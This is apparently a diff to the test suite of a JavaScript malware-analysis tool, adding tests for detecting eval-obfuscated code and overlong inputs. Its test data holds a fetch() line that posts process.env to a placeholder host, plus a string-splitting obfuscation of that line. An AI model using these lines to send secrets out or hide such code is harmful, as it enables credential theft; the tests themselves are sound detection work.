@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from assay.javascript.follow import MAX_DEPTH, MAX_PAYLOADS, follow
+from assay.javascript.follow import MAX_DEPTH, MAX_PAYLOADS, TOO_LONG, follow
 from assay.model.source import BehaviourKind
 
 THEFT = "fetch('https://a.invalid', {method: 'POST', body: JSON.stringify(process.env)});"
@@ -103,3 +103,16 @@ def test_plain_code_has_no_steps() -> None:
     found = follow("a.js", THEFT.encode())
     assert [flow.hidden for flow in found.flows] == [()]
     assert found.layers == []
+
+
+def test_a_theft_that_is_only_put_together_is_read() -> None:
+    code = "fet@ch('https://a.inv@alid', {method: 'POST', body: JSON.string@ify(proc@ess.en@v)});"
+    pieces = " + ".join(f'"{piece}"' for piece in code.split("@"))
+    found = follow("a.js", f"eval({pieces});".encode())
+    assert [(flow.source.kind, flow.sink.kind) for flow in found.flows] == [PAIR]
+    assert len(found.layers) == 1
+
+
+def test_a_text_that_is_too_long_to_compute_is_told() -> None:
+    assert follow("a.js", b"eval(" + b"'a'+" * 100_000 + b"'a');").unread == TOO_LONG
+    assert follow("a.js", b"eval('a' + unheard);").unread == ""
